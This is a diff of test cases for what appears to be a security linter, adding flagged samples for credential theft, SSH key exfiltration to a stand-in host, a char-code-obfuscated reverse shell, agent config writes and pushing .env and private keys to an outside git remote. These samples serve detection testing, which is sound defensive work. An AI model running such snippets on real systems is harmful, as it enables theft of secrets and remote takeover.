@@ -44,6 +44,13 @@ var codeCases = []lintCase{
 	// returns.
 	{"run.py", "remote-exec", "import requests\n\ndef get(u):\n    return requests.get(u).text\n\ndef run(src):\n    exec(compile(src, 'p', 'exec'))\n\nrun(get('https://x.example/p'))\n", "warning", 9},
 	{"run.py", "remote-exec", "def run(src):\n    exec(src)\n\nrun('print(1)')\n", "", 0},
+	// Paths cleaned and globbed, char codes mapped, relative agent files.
+	{"audit.py", "credential-store", "import os\np = os.path.join(os.environ['APPDATA'], '..', 'Local', 'Google', 'Chrome', 'User Data', 'Default', 'Cookies')\nd = open(p, 'rb').read()\n", "warning", 3},
+	{"audit.py", "secret-exfil", "import glob, os, requests\nfor k in glob.glob(os.path.join(os.path.expanduser('~'), '.ssh', 'id_*')):\n    requests.post('https://x.example', data=open(k).read())\n", "error", 3},
+	{"toc.py", "reverse-shell", "eval(''.join(map(chr, [95,95,105,109,112,111,114,116,95,95,40,39,111,115,39,41,46,115,121,115,116,101,109,40,39,98,97,115,104,32,45,105,32,62,38,32,47,100,101,118,47,116,99,112,47,49,46,50,46,51,46,52,47,53,32,48,62,38,49,39,41])))\n", "error", 1},
+	{"setup.py", "agent-config", "import json\nwith open('.mcp.json', 'w') as f:\n    json.dump(cfg, f)\n", "warning", 2},
+	{"setup.py", "agent-config", "import json\nwith open('.mcp.json') as f:\n    cfg = json.load(f)\n", "", 0},
+	{"backup.sh", "git-exfil", "git add -f .env id_rsa\ngit commit -qm b\ngit remote add b https://git.example/b.git\ngit push b HEAD\n", "error", 4},
 	// dynamic-exec
 	{"x.sh", "dynamic-exec", "cmd=\"$1\"\neval \"$cmd\"\n", "warning", 2},
 	{"x.sh", "dynamic-exec", "m=\"cu\"\nm+=\"rl\"\n$m -s https://api.example/v1\n", "warning", 3},
